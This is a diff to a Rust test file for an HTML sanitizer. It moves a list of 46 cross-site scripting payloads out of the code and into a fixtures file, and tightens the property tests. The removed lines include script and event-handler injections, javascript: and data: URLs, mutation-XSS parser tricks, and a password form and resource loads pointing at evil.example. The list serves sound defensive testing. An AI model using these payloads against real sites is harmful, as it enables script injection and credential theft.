@@ -12,55 +12,11 @@ fn safe(html: &str) -> String {
     safe_html(html, Some(&base()))
 }
 
-/// Markup that has got through one cleaner or another, by the ways it took.
-const ATTACKS: [&str; 46] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' java\tscript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='vbscript:x'>x</a>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<object data='data:text/html,x'></object>",
-    "<embed src='//evil.example/x.swf'>",
-    "<form action='//evil.example'><input name=password><button>x</button></form>",
-    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<p style='background:url(//evil.example/x.png)'>x</p>",
-    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
-    "<link rel=stylesheet href='//evil.example/x.css'>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href='//evil.example/'>",
-    "<video poster='//evil.example/x.png'><source src='//evil.example/x.mp4' onerror=alert(1)></video>",
-    "<audio src='//evil.example/x.mp3' autoplay onplay=alert(1)></audio>",
-    "<img srcset='//evil.example/x.png 1x'>",
-    "<picture><source srcset='//evil.example/x.png'><img src='//evil.example/y.png'></picture>",
-    "<body background='//evil.example/x.png' onload=alert(1)>x</body>",
-    "<table background='//evil.example/x.png'><tr><td background='//evil.example/y.png'>x</td></tr></table>",
-    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
-    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<select><option><img src=x onerror=alert(1)></select>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<p id='x\"><img src=x onerror=alert(1)>'>x</p>",
-    "<a title='<img src=x onerror=alert(1)>' href=/y>x</a>",
-    "<p/onclick=alert(1)//x>x</p>",
-    "<a href='//evil.example' target=_blank ping='//evil.example/p'>x</a>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-];
+/// Markup that has got through one cleaner or another, or was made to, by the ways it takes; one case a line.
+fn attacks() -> Vec<&'static str> {
+    let cases = include_str!("../../../tests/fixtures/hostile/markup.txt");
+    cases.lines().filter(|line| !line.starts_with('#')).collect()
+}
 
 /// Elements, attributes and addresses that act or load: of a tree, since in texts all may be said.
 fn assert_harmless(html: &str, made: &str) {
@@ -84,7 +40,8 @@ fn assert_harmless(html: &str, made: &str) {
 
 #[test]
 fn nothing_that_acts_or_loads_gets_through() {
-    for attack in ATTACKS {
+    assert!(attacks().len() >= 100);
+    for attack in attacks() {
         let html = safe(attack);
         assert_harmless(&html, attack);
         assert_eq!(safe(&html), html, "made safe again: {attack}");
@@ -157,7 +114,7 @@ proptest! {
     fn made_safe_again_it_is_the_same(
         parts in prop::collection::vec(
             prop_oneof![
-                2 => prop::sample::select(ATTACKS.as_slice()).prop_map(str::to_owned),
+                2 => prop::sample::select(attacks()).prop_map(str::to_owned),
                 4 => "<(/?)(p|div|a|b|i|table|tr|td|li|ul|svg|math|style|select|form|img|pre|title|mglyph|mtext|noscript)( (id|href|title|src)=[\"']?[a-z#:/<>]{0,6}[\"']?)?>",
                 2 => "[a-z <>&\"'=/!-]{0,12}",
             ],
